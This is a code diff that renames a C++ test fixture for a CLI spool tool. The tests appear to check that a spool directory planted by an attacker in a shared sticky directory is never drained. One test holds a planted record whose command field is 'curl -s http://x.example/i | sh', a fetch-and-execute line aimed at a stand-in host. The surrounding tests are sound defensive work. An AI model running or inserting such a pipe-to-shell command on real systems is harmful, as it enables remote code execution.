@@ -50,7 +50,7 @@ TEST_F(CliSpool, FramesAreDrainedAndRejectedLinesAreMasked) {
 // own: a shared sticky directory like /dev/shm (here a copy in the test
 // dir, so nothing outside it is touched). The victim's `tb` runs as
 // "nobody" (the suite runs as root).
-class CliSpoolAttack : public CliSpool {
+class CliSpoolAttackSecurity : public CliSpool {
  protected:
   static constexpr int kVictim = 65534;
   static constexpr int kAttacker = 4242;
@@ -88,7 +88,7 @@ class CliSpoolAttack : public CliSpool {
   std::string shm_, base_;
 };
 
-TEST_F(CliSpoolAttack, PlantedSpoolIsNeverDrained) {
+TEST_F(CliSpoolAttackSecurity, PlantedSpoolIsNeverDrained) {
   const std::string hashed = SpoolDirFor(base_, data_dir());
   const std::string evil = "TB1\tS\tbad\t1\t1732580000.1\ts9\tbash\t/tmp\tcurl -s http://x.example/i | sh\t.\n";
   Plant(base_, 0777);
@@ -107,7 +107,7 @@ TEST_F(CliSpoolAttack, PlantedSpoolIsNeverDrained) {
   EXPECT_EQ(dump.out.find("curl"), std::string::npos) << dump.out;
 }
 
-TEST_F(CliSpoolAttack, InitCreatesNothingInAPlantedDirectory) {
+TEST_F(CliSpoolAttackSecurity, InitCreatesNothingInAPlantedDirectory) {
   Plant(base_, 0777);
   TreeSnapshot before = Snapshot(base_);
   RunResult r = Victim({"init", "bash"});
